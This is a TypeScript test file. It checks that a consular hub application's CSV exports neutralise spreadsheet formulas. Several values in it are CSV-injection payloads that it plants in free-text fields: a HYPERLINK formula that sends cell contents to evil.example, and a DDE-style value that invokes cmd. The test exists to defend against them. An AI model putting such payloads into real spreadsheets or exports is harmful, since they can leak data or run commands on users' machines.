import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TABLE_IDS } from '../hub/dashboards/tables.js';
import type { BootstrapResult } from '../hub/services/users/index.js';
import { addMission, event, ingestEvents, seedDashboardData } from './_util/dashboard-data.js';
import { migratedStore, storeBackends, type TestStore } from './_util/hub-db.js';
import { type HubWebApp, openHubWeb } from './_util/hub-web.js';

const NOW = new Date('2026-03-31T12:00:00.000Z');
const PERIOD = 'du=2026-03-01&au=2026-03-31';

// What a mission (or a careless hand) can put in front of a ministry spreadsheet: each would run.
const MISSION_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Ouvrir")';
const SERVICE_CODE = '@SUM(1+1)*cmd|x';
const ACK_COMMENT = '=1+1';
const DIRECTIVE_BY = '+cmd';
const PLANTED = [MISSION_NAME, SERVICE_CODE, ACK_COMMENT, DIRECTIVE_BY];
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?$/;

/** Plants formulas where missions and users write free text, beside the usual March data. */
async function plantFormulas(store: TestStore): Promise<string> {
  await addMission(store.db, { id: 'ga-libreville', name: MISSION_NAME, online: true });
  await ingestEvents(store.db, 'ga-libreville', [
    event('appointment.booked', 'R1', '2026-03-10T09:00:00.000Z', {
      serviceCode: SERVICE_CODE,
      slotStart: '2026-03-12T09:00:00.000Z',
      state: 'confirmed',
    }),
    event('file.opened', 'F9', '2026-03-10T09:00:00.000Z', {
      serviceCode: SERVICE_CODE,
      channel: 'counter',
      state: 'submitted',
    }),
    event('file.transitioned', 'F9', '2026-03-12T09:00:00.000Z', {
      serviceCode: SERVICE_CODE,
      from: 'submitted',
      to: 'ready',
    }),
  ]);
  const id = randomUUID();
  await store.db.query(
    `INSERT INTO directives (id, title, body, priority, target, effective_at, requires_ack, issued_by, issued_at)
     VALUES ($1, '{"fr":"Recensement"}', '{"fr":"…"}', 'normal', '"all"', '2026-03-01T00:00:00Z', true, $2,
             '2026-03-01T00:00:00Z')`,
    [id, DIRECTIVE_BY],
  );
  await store.db.query(
    `INSERT INTO directive_status (directive_id, mission_id, sent_at, received_at, acknowledged_at, acknowledged_by, ack_comment)
     VALUES ($1, 'ga-libreville', '2026-03-01T00:00:00Z', '2026-03-01T01:00:00Z', '2026-03-02T00:00:00Z', 'consul', $2)`,
    [id, ACK_COMMENT],
  );
  return id;
}

describe.each(storeBackends('hub CSV exports'))('hub CSV exports on $name', (backend) => {
  let store: TestStore;
  let web: HubWebApp;
  let director: BootstrapResult;
  beforeEach(async () => {
    store = await migratedStore(backend);
    await seedDashboardData(store.db);
    web = await openHubWeb(store.db, () => NOW);
    director = await web.user('directrice', ['directorate']);
  });
  afterEach(async () => {
    await web?.close();
    await store?.dispose();
  });

  it('lets no cell of any export start a formula, and keeps what was planted readable behind an apostrophe', async () => {
    const directiveId = await plantFormulas(store);
    const cookie = await web.login(director);
    const urls = [
      ...TABLE_IDS.map((table) => `/web/export/${table}.csv?${PERIOD}`),
      '/web/export/directives.csv',
      `/web/export/directives/${directiveId}.csv`,
    ];
    const cells: string[] = [];
    for (const url of urls) {
      const response = await web.app.inject({ url, headers: { cookie } });
      expect(response.statusCode, url).toBe(200);
      const rows = parse(response.body, { bom: true }) as string[][];
      for (const cell of rows.flat()) {
        expect(FORMULA.test(cell) && !PLAIN_NUMBER.test(cell), `${url}: ${cell}`).toBe(false);
        cells.push(cell);
      }
    }
    // The scan above sees what it looks for: every planted formula is in the files, neutralised.
    for (const planted of PLANTED) expect(cells).toContain(`'${planted}`);
    // Negative amounts and plain numbers stay numbers.
    expect(cells.filter((cell) => PLAIN_NUMBER.test(cell)).length).toBeGreaterThan(10);
  });
});
